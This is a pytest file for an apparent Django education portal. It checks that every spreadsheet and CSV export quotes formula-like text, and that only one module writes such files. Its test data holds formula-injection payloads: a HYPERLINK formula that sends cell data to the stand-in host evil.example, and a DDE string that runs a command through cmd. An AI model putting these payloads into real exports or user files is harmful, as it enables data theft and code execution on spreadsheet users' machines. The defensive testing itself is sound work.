"""Formula injection: a provider's row, a course or a community named like a formula comes back in every
spreadsheet and CSV we hand out as quoted text, never a live formula; and nothing in the code writes a workbook or
a CSV except through core/documents/ (its one writer, sheets.py). The files are asked for in the tests' own city
(tests/portal/world.py): 达州市."""

import ast
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

import learncity
from learncity.core import documents
from learncity.intake import services as intake
from learncity.intake.models import ImportJob
from learncity.places.models import Place
from learncity.places.services import community_create
from tests.catalog.factories import TERM, course_make
from tests.intake.files import csv_file, record
from tests.people.factories import learner_make

SRC = Path(learncity.__file__).resolve().parent

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "\t=1+1", "  =1+1", "\u3000=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\r=1+1", "\n=1+1"]


# --- the writer ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_could_be_a_formula_is_quoted(text):
    assert documents.safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["林一", "书法 = 美", "a-b", "2026-12-07", "", "'=already quoted", "＝1+1"])
def test_ordinary_text_is_left_as_it_is(text):
    assert documents.safe_text(text) == text


def test_numbers_stay_numbers_and_controls_cannot_break_the_file():
    from decimal import Decimal

    assert [documents.safe_value(v) for v in (-5, -1.5, Decimal("-2.50"), None)] == [-5, -1.5, Decimal("-2.50"), None]
    assert documents.safe_text("a\x00b\x1bc") == "a\ufffdb\ufffdc"


def _cells(data: bytes) -> list:
    """Every cell of every sheet as openpyxl reads it back (its type and value)."""
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_no_formula(data: bytes) -> None:
    """No formula element in any sheet's XML, and no cell read back as a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    assert [c.coordinate for c in _cells(data) if c.data_type == "f"] == []


def test_cells_set_any_way_are_neutralised_when_the_workbook_is_saved():
    wb = documents.workbook()
    ws = wb.active
    ws["A1"] = HYPERLINK
    ws.cell(row=2, column=1, value=DDE)
    ws.append(["\t=1+1", -3])
    data = documents.workbook_bytes(wb)
    _assert_no_formula(data)
    assert [c.value for c in _cells(data)] == ["'" + HYPERLINK, "'" + DDE, "'\t=1+1", -3]


def test_a_streaming_sheet_takes_rows_only_through_the_safe_writer():
    wb = documents.streaming_workbook()
    ws = wb.sheet("s")
    ws.append([HYPERLINK, ws.cell(DDE), 7])
    data = wb.save()
    _assert_no_formula(data)
    assert [c.value for c in _cells(data)] == ["'" + HYPERLINK, "'" + DDE, 7]


def test_csv_cells_are_quoted_like_spreadsheet_cells():
    text = documents.csv_bytes([[HYPERLINK, -2, "林一"]]).decode("utf-8-sig")
    assert text == "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-2,林一\r\n"


# --- every file we hand out ---------------------------------------------------------------------------------------


def test_the_intake_error_report_quotes_a_providers_formula(world, client_as, settings, tmp_path):
    settings.LEARNCITY_INTAKE_DIR = tmp_path / "intake"
    staff, school = world.staff, world.institution
    people = [world.learner_profile, learner_make(world.street)]
    rows = [record(people[0], "F-1", name=HYPERLINK, title=DDE),
            record(people[1], "F-2", title="\t=1+1", hours="-5")]
    c = client_as(staff)
    c.post("/intake/", {"institution_code": school.code, "mode": "valid",
                        "file": SimpleUploadedFile("records.csv", csv_file(rows))})
    job = intake.job_run(ImportJob.objects.get(institution=school, filename="records.csv").pk)

    report = c.get(f"/intake/jobs/{job.pk}/report.xlsx")

    assert report.status_code == 200
    _assert_no_formula(report.content)
    values = {c.value for c in _cells(report.content)}
    assert {"'" + HYPERLINK, "'" + DDE, "'\t=1+1", "'-5"} <= values
    assert not values & {HYPERLINK, DDE, "\t=1+1"}


def test_a_course_roster_quotes_a_formula_in_a_course_title(world, client_as):
    course = course_make(world.staff, world.institution, title=HYPERLINK, state="published")
    response = client_as(world.staff).get(f"/learn/manage/courses/{course.pk}/roster.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content)
    assert _cells(response.content)[0].value == "'" + HYPERLINK


def test_the_timetable_guide_quotes_a_formula_in_a_course_title(world, client_as):
    course_make(world.staff, world.institution, title="@SUM(1+1)", state="published", kind="community")
    response = client_as(world.learner).get(f"/learn/timetable/?district={world.district.code}&term={TERM}&format=xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content)
    values = {c.value for c in _cells(response.content)}
    assert "'@SUM(1+1)" in values and "@SUM(1+1)" not in values


def test_a_monitoring_export_quotes_a_formula_in_a_community_name(world, client_as):
    street = world.street
    community_create(actor=world.city_admin, parent_code=street.code, code=street.code + "999",
                     name=" " + DDE)
    response = client_as(world.city_admin).get(
        f"/monitor/export/drilldown.xlsx?indicator=CE-PART&place={street.pk}")
    assert response.status_code == 200
    _assert_no_formula(response.content)
    names = [c.value for c in _cells(response.content) if isinstance(c.value, str) and "cmd" in c.value]
    assert names == ["'" + Place.objects.get(code=street.code + "999").name]
    assert names[0].lstrip("' ").startswith(DDE)


def test_the_intake_csv_template_is_written_by_the_safe_writer(client_as, world):
    response = client_as(world.staff).get("/intake/template.csv")
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())
    assert intake.template_csv() == response.content


# --- nothing writes around the writer ---------------------------------------------------------------------------

# The intake pipeline's csv writer builds a COPY stream into PostgreSQL's staging table: no file anyone opens.
WRITER = "core/documents/sheets.py"  # the one module that makes workbooks and csv writers
ALLOWED = {("intake/pipeline/sql/postgresql.py", "csv.writer")}
OPENPYXL_MAKERS = {"Workbook", "WriteOnlyCell"}
CSV_MAKERS = {"writer", "DictWriter"}


def _makers(tree: ast.AST):
    """Where a module reaches for a workbook or a csv writer of its own: imports of them (aliased or not) and
    attribute uses (`csv.writer`, `openpyxl.Workbook`)."""
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            for alias in node.names:
                if (top == "openpyxl" and alias.name in OPENPYXL_MAKERS) or (top == "csv" and alias.name in CSV_MAKERS):
                    yield node.lineno, f"{node.module}.{alias.name}"
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and (
                (node.value.id == "csv" and node.attr in CSV_MAKERS)
                or (node.value.id == "openpyxl" and node.attr in OPENPYXL_MAKERS)):
            yield node.lineno, f"{node.value.id}.{node.attr}"


def test_only_the_documents_module_makes_workbooks_and_csv_writers():
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == WRITER or "/migrations/" in rel:
            continue
        for line, name in _makers(ast.parse(path.read_text(encoding="utf-8"))):
            if (rel, name) not in ALLOWED:
                offenders.append(f"{rel}:{line} {name}")
    assert offenders == []


def test_the_writer_the_check_leaves_out_is_the_one_that_makes_them():
    # the check above skips one module: it must be the writer, or a writer moved elsewhere would go unchecked
    makers = {name for _, name in _makers(ast.parse((SRC / WRITER).read_text(encoding="utf-8")))}
    assert {"openpyxl.Workbook", "openpyxl.cell.WriteOnlyCell", "csv.writer"} <= makers
    assert documents.workbook.__module__ == documents.csv_bytes.__module__ == "learncity.core.documents.sheets"


def test_the_source_check_finds_every_way_to_a_direct_writer():
    tree = ast.parse("import csv\nimport openpyxl\nfrom openpyxl import Workbook as W\n"
                     "from openpyxl.cell import WriteOnlyCell\nfrom csv import writer as w, reader\n"
                     "a = csv.writer(f)\nb = csv.DictWriter(f, [])\nc = openpyxl.Workbook()\nd = csv.reader(f)\n")
    assert list(_makers(tree)) == [(3, "openpyxl.Workbook"), (4, "openpyxl.cell.WriteOnlyCell"), (5, "csv.writer"),
                                   (6, "csv.writer"), (7, "csv.DictWriter"), (8, "openpyxl.Workbook")]


def test_a_workbook_saved_directly_is_neutralised_too():
    wb = documents.workbook()
    wb.active["A1"] = DDE
    buf = io.BytesIO()
    wb.save(buf)
    _assert_no_formula(buf.getvalue())
    assert _cells(buf.getvalue())[0].value == "'" + DDE


def test_a_streaming_cell_changed_after_it_was_made_is_neutralised_as_it_goes_in():
    wb = documents.streaming_workbook()
    ws = wb.sheet("s")
    cell = ws.cell("harmless")
    cell.value = HYPERLINK
    ws.append([cell])
    data = wb.save()
    _assert_no_formula(data)
    assert _cells(data)[0].value == "'" + HYPERLINK
